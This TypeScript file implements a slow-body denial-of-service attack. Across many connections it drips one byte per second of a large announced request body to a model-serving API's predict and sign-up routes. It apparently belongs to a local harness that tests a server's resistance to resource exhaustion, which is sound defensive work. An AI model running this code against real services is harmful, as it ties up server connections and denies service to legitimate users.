import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { lanes, type Attack } from './target';

const announcedBytes = 60_000;
const dripMs = 1000;
const againMs = 250;

/**
 * Bodies of which a byte comes each second, on so many connections to each of three routes: the prediction of
 * a model that is not there, sign-up, and the prediction of a model that the attacker may ask.
 */
export function drippingBodies(connections: number): Attack {
  return ({ url, model, tokens }, answers, signal) => {
    const heads = [
      { name: 'nobody’s predict', path: '/whatever/predict', token: '' },
      { name: 'sign-up', path: '/api/v2/user/signup', token: '' },
      { name: 'own predict', path: `/${model}/predict`, token: tokens[0] },
    ];
    return lanes(heads.length * connections, signal, async (lane) => {
      const { name, path, token } = heads[lane % heads.length]!;
      const authorization = token && `Authorization: Bearer ${token}\r\n`;
      const head = `POST ${path} HTTP/1.1\r\nHost: a\r\n${authorization}Content-Length: ${announcedBytes}\r\n\r\n`;
      answers.add(`${name} ${await drip(new URL(url), head, signal)}`);
      await pause(againMs);
    });
  };
}

/** @returns the status that was answered, or `cut` without one */
function drip({ hostname, port }: URL, head: string, signal: AbortSignal): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: '127.0.0.2' });
    let drops: NodeJS.Timeout | undefined;
    let status = 'cut';
    const end = (): void => void socket.destroy();
    signal.addEventListener('abort', end, { once: true });
    socket.on('connect', () => {
      socket.write(head);
      drops = setInterval(() => socket.write(' '), dripMs);
    });
    socket.on('data', (bytes) => {
      status = /^HTTP\/1\.1 (\d+)/.exec(bytes.toString('latin1'))?.[1] ?? status;
      socket.destroy();
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(drops);
      signal.removeEventListener('abort', end);
      resolve(status);
    });
  });
}
